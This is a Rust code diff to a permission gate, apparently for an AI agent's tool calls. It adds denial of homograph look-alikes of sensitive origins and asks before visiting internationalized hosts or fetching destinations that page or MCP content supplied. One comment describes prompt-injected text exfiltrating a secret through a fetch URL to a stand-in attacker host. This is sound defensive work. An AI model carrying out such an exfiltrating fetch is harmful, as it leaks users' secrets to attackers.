@@ -5,7 +5,14 @@
 //! * [`Origin`] / [`OriginPattern`]: a small origin parser and the patterns rules use.
 //! * [`Rule`] with [`winning_rule`] precedence; [`SensitiveOrigins`], the denylist;
 //!   [`classify`], the tool table; [`scan`], the sensitive-payload detector.
+//! * Hosts: fullwidth forms are folded to ASCII when parsed; a homograph of a sensitive
+//!   origin ([`Origin::look_alike`]) is denied like it, and any other internationalized host
+//!   ([`Origin::is_idn`]) asks, whatever grants and allow rules say.
+//! * Taint comes in through [`GateInput::taint`], computed by
+//!   [`crate::taint::TaintLedger::taint_of`]; it forces a question for destinations (reads
+//!   included) and for text typed into another origin.
 
+mod idn;
 mod origin;
 mod payload;
 mod rules;
@@ -69,6 +76,7 @@ pub struct GateInput<'a> {
     /// Origins the thread has accepted; emails may go there without asking.
     pub scope_origins: &'a [Origin],
     /// Parameters whose values came from elsewhere; page and MCP content counts as taint.
+    /// Normally [`crate::taint::TaintLedger::taint_of`] over `params`.
     pub taint: &'a [TaintSource],
 }
 
@@ -120,6 +128,14 @@ pub fn decide(input: &GateInput<'_>) -> Verdict {
     match info.effect {
         Effect::AlwaysAllowed => return Verdict::Allow,
         Effect::Read => {
+            // A read that fetches a destination the page or an MCP server chose is how
+            // injected text exfiltrates (`fetch_url https://evil.test/?d=<secret>`), so a tainted
+            // destination asks under every policy and through grants.
+            if info.target == TargetKind::Destination
+                && let Some(reason) = taint_reason(input, info, origin)
+            {
+                return ask(vec![ApprovalFlag::TaintedInput], reason);
+            }
             return match input.policy {
                 PermissionPolicy::Always if !input.session_grants.contains(&grant) => ask(
                     Vec::new(),
@@ -144,6 +160,17 @@ pub fn decide(input: &GateInput<'_>) -> Verdict {
         && let Some(pattern) = input.sensitive.find(origin)
     {
         return deny(format!("{origin} is a sensitive origin ({})", describe(pattern)), None);
+    }
+    // A look-alike of a sensitive origin is treated as that origin: whoever registered
+    // `pаypal.com` wants it mistaken for PayPal.
+    if let Some(origin) = origin
+        && let Some(imitated) = origin.look_alike()
+        && let Some(pattern) = input.sensitive.find(&imitated)
+    {
+        return deny(
+            format!("{origin} imitates {imitated}, a sensitive origin ({})", describe(pattern)),
+            None,
+        );
     }
 
     let findings = scan(input.params);
@@ -179,6 +206,20 @@ pub fn decide(input: &GateInput<'_>) -> Verdict {
     // Step 5: taint, even under `auto`.
     if let Some(reason) = taint {
         return ask(flags, reason);
+    }
+    // Step 5b: an internationalized host may be a look-alike of a site the user trusts or a
+    // sensitive one, so no grant or allow rule speaks for it and even `auto` asks. There is no
+    // card flag for this (the protocol's flags are fixed elsewhere); the reason says it.
+    if let Some(origin) = origin
+        && origin.is_idn()
+    {
+        return ask(
+            flags,
+            format!(
+                "{origin} has an internationalized host name that can imitate another site; \
+                 check the address"
+            ),
+        );
     }
     // Step 6: a session grant, then an allow rule.
     if input.session_grants.contains(&grant) {
@@ -238,7 +279,12 @@ fn payload_reason(
 
 fn taint_reason(input: &GateInput<'_>, info: ToolInfo, origin: Option<&Origin>) -> Option<String> {
     input.taint.iter().filter(|it| is_untrusted(it.provenance)).find_map(|taint| {
-        let leaf = taint.param.rsplit('/').next().unwrap_or_default();
+        // Array indices are not names: `values/0` is judged as `values`.
+        let leaf = taint
+            .param
+            .rsplit('/')
+            .find(|segment| !segment.bytes().all(|b| b.is_ascii_digit()))
+            .unwrap_or_default();
         match info.target {
             TargetKind::Destination if DESTINATION_PARAMS.contains(&leaf) => {
                 Some(format!("destination {} came from {}", taint.param, taint.source))
